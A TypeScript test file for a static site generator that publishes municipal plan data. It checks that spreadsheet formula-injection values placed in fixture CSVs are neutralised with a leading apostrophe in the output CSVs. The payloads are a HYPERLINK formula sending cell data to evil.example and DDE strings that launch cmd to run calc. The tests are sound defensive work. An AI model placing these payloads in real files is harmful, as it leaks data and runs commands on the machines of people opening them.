/**
 * Hostile cells in the content (what an attacker would put in a CSV the city publishes) come out
 * of a real build as text in the published CSV files, never as a formula a spreadsheet would run;
 * the JSON files and the pages keep the value exactly.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { buildSite, builtPages, copyOfFixtureContent, formulaCells, textOf } from './build-site.ts';

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"詳細")';
const DDE = "-2+3+cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS = '+1+1';

/** Replaces one exact piece of a fixture file. */
function edit(content: string, file: string, from: string, to: string): void {
  const path = join(content, file);
  const text = readFileSync(path, 'utf8');
  expect(text, file).toContain(from);
  writeFileSync(path, text.replace(from, to));
}

describe('a hostile value in the content', () => {
  const content = copyOfFixtureContent();
  edit(content, 'plans/sample-2026/goals.csv', 'g2,2,自治体の目標,', `g2,2,"${HYPERLINK.replace(/"/g, '""')}",`);
  edit(content, 'plans/sample-2026/measures.csv', 'g1-m1,g1,①,子育て分野のDX推進,,', `g1-m1,g1,①,子育て分野のDX推進,${DDE},`);
  edit(content, 'plans/sample-2026/initiatives.csv', 'g2-m1-i1,g2-m1,1,生成AIの活用,', `g2-m1-i1,g2-m1,1,${PLUS},`);
  edit(content, 'plans/sample-2026/observations.csv', 'line-users,2024,baseline,3096,', `line-users,2024,baseline,3096,${SUM}`);
  const build = buildSite(content);
  const csv = (path: string) =>
    Papa.parse<Record<string, string>>(new TextDecoder().decode(readFileSync(join(build.outDir, 'data', path))), {
      header: true,
      skipEmptyLines: true,
    }).data;
  const json = (path: string) => JSON.parse(readFileSync(join(build.outDir, 'data', path), 'utf8')) as Record<string, unknown>[];

  it('builds', () => expect(build.status, build.output).toBe(0));

  it('is text with a leading apostrophe in every published CSV, combined and per plan', () => {
    for (const path of ['goals.csv', 'plans/sample-2026/goals.csv'])
      expect(csv(path).find((r) => r.id === 'g2')?.title, path).toBe(`'${HYPERLINK}`);
    for (const path of ['measures.csv', 'plans/sample-2026/measures.csv'])
      expect(csv(path).find((r) => r.id === 'g1-m1')?.description, path).toBe(`'${DDE}`);
    expect(csv('initiatives.csv').find((r) => r.id === 'g2-m1-i1')?.text).toBe(`'${PLUS}`);
    const baseline = (rows: Record<string, string>[]) => rows.find((r) => r.indicator_id === 'line-users' && r.kind === 'baseline');
    expect(baseline(csv('observations.csv'))).toMatchObject({ note: `'${SUM}`, value: '3096' });
    expect(csv('plans/sample-2026/indicators/line-users.csv').find((r) => r.kind === 'baseline')).toMatchObject({
      note: `'${SUM}`,
      value: '3096',
    });
  });

  it('leaves no cell of any published CSV that a spreadsheet would run as a formula', () => {
    expect(formulaCells(build.outDir)).toEqual([]);
  });

  it('is exact in the JSON files and on the pages', () => {
    expect(json('goals.json').find((r) => r.id === 'g2')?.title).toBe(HYPERLINK);
    expect(json('measures.json').find((r) => r.id === 'g1-m1')?.description).toBe(DDE);
    expect(json('plans/sample-2026/indicators/line-users.json').find((r) => r.kind === 'baseline')).toMatchObject({
      note: SUM,
      value: 3096,
    });
    expect(textOf(builtPages(build.outDir).get('plans/sample-2026/goals/g2/index.html')!)).toContain(HYPERLINK);
  });

  it('is explained on /data/', () => {
    expect(textOf(builtPages(build.outDir).get('data/index.html')!)).toContain(
      "表計算ソフトで開いたときに数式として実行されないよう、CSV では、文字列のセルが「=」「+」「-」「@」（前に空白がある場合と、全角の「＝」「＋」「－」「＠」を含みます）やタブ・改行で始まるときに、先頭にアポストロフィ（'）を付けています。",
    );
  });
});
